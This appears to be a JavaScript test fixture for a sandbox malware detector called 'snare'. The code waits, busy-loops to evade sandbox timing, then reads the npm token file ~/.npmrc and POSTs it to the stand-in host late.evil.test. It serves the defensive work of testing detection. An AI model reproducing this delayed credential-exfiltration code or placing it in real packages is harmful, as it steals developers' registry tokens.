// Test fixture, run only inside snare's sandbox: fake secret, fake host.
const fs = require('fs'), os = require('os'), http = require('http');
setTimeout(() => {
  const until = Date.now() + 5000;
  while (Date.now() < until) {}           // busy wait, as sandbox-aware bombs do
  const tok = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  const r = http.request({host: 'late.evil.test', path: '/t', method: 'POST'}, res => res.resume());
  r.on('error', () => {});
  r.end(tok);
}, 10000);
